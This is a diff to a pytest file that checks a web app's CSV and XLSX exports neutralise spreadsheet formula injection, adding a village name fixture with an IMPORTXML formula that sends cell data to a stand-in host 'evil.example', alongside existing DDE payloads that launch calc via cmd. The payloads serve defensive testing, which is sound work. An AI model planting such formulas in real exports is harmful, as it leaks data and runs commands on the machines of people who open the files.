@@ -10,10 +10,11 @@ import time
 
 import pytest
 from openpyxl import load_workbook
-from sqlalchemy import insert
+from sqlalchemy import insert, update
 
 from app import create_app
 from exports.jobs import EXPORT_JOBS_EXTENSION, ExportSettings, JobStore
+from store.core.models import Village
 from store.tickets.models import Ticket, TicketEvent
 from tests.dash_callback import post_callback
 from tests.databases import database_url
@@ -26,6 +27,8 @@ FORMULA_TITLES = {
     9: "-2+3+cmd|' /C calc'!A0",
     10: "@SUM(1+1)*cmd|' /C calc'!A0",
 }
+
+FORMULA_VILLAGE = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
 
 
 def add_formula_tickets(engine) -> None:
@@ -69,6 +72,8 @@ def server(request, tmp_path, monkeypatch):
         engine = build_small_database(url)
         add_small_tickets(engine)
         add_formula_tickets(engine)
+        with engine.begin() as connection:  # a village named by an import that trusted its source
+            connection.execute(update(Village).where(Village.code == "84020101").values(name_en=FORMULA_VILLAGE))
         engine.dispose()
         server = create_app(url).server
         yield server
@@ -150,6 +155,13 @@ def test_formulas_are_neutralised_in_csv_and_xlsx(client):
     cells = {row[0].value: row[header.index("Title")] for row in sheet.iter_rows(min_row=2)}
     for ticket_id, title in FORMULA_TITLES.items():
         assert cells[ticket_id].value == "'" + title and cells[ticket_id].data_type == "s"
+
+
+@pytest.mark.parametrize("path", ["/api/v1/villages?format=csv", "/api/v1/exports/villages.csv?lang=en"])
+def test_village_names_are_neutralised_too(client, path):
+    names = {row["code"]: row["name_en"] for row in csv_rows(client.get(path))}
+    assert names["84020101"] == "'" + FORMULA_VILLAGE
+    assert names["84010101"] == "Ban Nong Bua"
 
 
 def finished_job(client, url: str) -> dict:
